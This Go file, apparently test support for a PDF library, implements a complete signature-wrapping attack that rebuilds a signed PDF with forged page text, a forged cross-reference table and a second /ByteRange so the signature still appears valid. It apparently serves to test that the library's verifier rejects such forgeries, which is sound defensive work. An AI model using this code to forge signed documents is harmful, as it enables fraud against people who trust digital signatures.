package signaturetest

import (
	"bytes"
	"fmt"
	"strings"

	"github.com/motcua/motcua/internal/pdf"
)

// Wrap is the signature wrapping attack. The second signed range moves towards the end of the file, the place where it
// stood is filled with an object and a cross-reference table of the attacker's at the very offset that the signed
// startxref names, and a second /ByteRange says where the range went. The signed bytes stay as they are. The file must
// end with the signature's own revision.
func Wrap(signed []byte, text string) ([]byte, error) {
	p, err := find(signed)
	if err != nil {
		return nil, err
	}
	doc, err := pdf.Open(bytes.NewReader(signed), int64(len(signed)), pdf.Limits{})
	if err != nil {
		return nil, err
	}
	section := doc.Sections()[0]
	if p.numbers[2]+p.numbers[3] != int64(len(signed)) || section.Pos < p.numbers[2] {
		return nil, ErrTarget
	}
	_, page, err := doc.FirstPage()
	if err != nil {
		return nil, err
	}
	content, ok := page["Contents"].(pdf.Ref)
	if !ok {
		return nil, ErrTarget
	}
	forged := fmt.Sprintf("BT /F1 24 Tf 72 720 Td <%X> Tj ET\n", text)
	w := wrapper{signed: signed, p: p, doc: doc, table: int(section.Pos)}
	return w.build(content, forged)
}

type wrapper struct {
	signed []byte
	p      placed
	doc    *pdf.Document
	table  int // offset of the signed cross-reference table, where the attacker's has to stand
}

// rangeWidth is the room for the second /ByteRange.
const rangeWidth = 60

func (w *wrapper) build(content pdf.Ref, forged string) ([]byte, error) {
	head := w.head()
	object := fmt.Sprintf("%d %d obj\n<</Length %d>>\nstream\n%sendstream\nendobj\n", content.Num, content.Gen,
		len(forged), forged)
	end := ">>\nendobj\n"
	at := w.p.contents + len(head) + rangeWidth + len(end)
	if at+len(object) > w.table {
		return nil, ErrTarget
	}
	filler := strings.Repeat(" ", w.table-at-len(object))
	// The table's length does not depend on its numbers, so the shift is known before they are.
	shift := int64(w.table+len(w.xref(content.Num, at, 0))) - int64(w.p.closes)
	n := w.p.numbers
	second := fmt.Sprintf("[0 %d %d %d]", n[1], n[2]+shift, n[3])
	second += strings.Repeat(" ", rangeWidth-len(second))
	hole := head + second + end + object + filler + w.xref(content.Num, at, shift)
	out := append(bytes.Clone(w.signed[:w.p.contents]), hole...)
	return append(out, w.signed[w.p.closes:]...), nil
}

// head is the hole's beginning: the signature without its padding, the rest of the dictionary as it was, and the key of
// a second range.
func (w *wrapper) head() string {
	message := strings.TrimRight(string(w.signed[w.p.contents+1:w.p.closes-1]), "0")
	message += strings.Repeat("0", len(message)%2)
	rest := w.signed[w.p.closes:]
	rest = rest[:max(0, bytes.Index(rest, []byte("endobj")))]
	rest = bytes.TrimSuffix(bytes.TrimSpace(rest), []byte(">>"))
	return "<" + message + ">" + string(rest) + " /ByteRange "
}

func (w *wrapper) packed() bool {
	for _, s := range w.doc.Sections() {
		if s.Stream {
			return true
		}
	}
	return false
}

// xref is the attacker's table: the forged content at its place, what stood behind the hole moved by shift.
func (w *wrapper) xref(content, at int, shift int64) string {
	var b strings.Builder
	b.WriteString("xref\n")
	for num := 1; num < w.doc.Objects(); num++ {
		pos, ok := w.doc.Position(num)
		if !ok {
			continue
		}
		if pos > int64(w.p.closes) {
			pos += shift
		}
		if num == content {
			pos = int64(at)
		}
		fmt.Fprintf(&b, "%d 1\n%010d 00000 n\r\n", num, pos)
	}
	root, _ := w.doc.Trailer()["Root"].(pdf.Ref)
	prev := "" // for what older sections list that stands in no place of its own, but in an object stream
	if all := w.doc.Sections(); len(all) > 1 && w.packed() {
		prev = fmt.Sprintf(" /Prev %d", all[1].Pos)
	}
	fmt.Fprintf(&b, "trailer\n<</Size %d /Root %d %d R%s>>\n", w.doc.Objects(), root.Num, root.Gen, prev)
	return b.String()
}
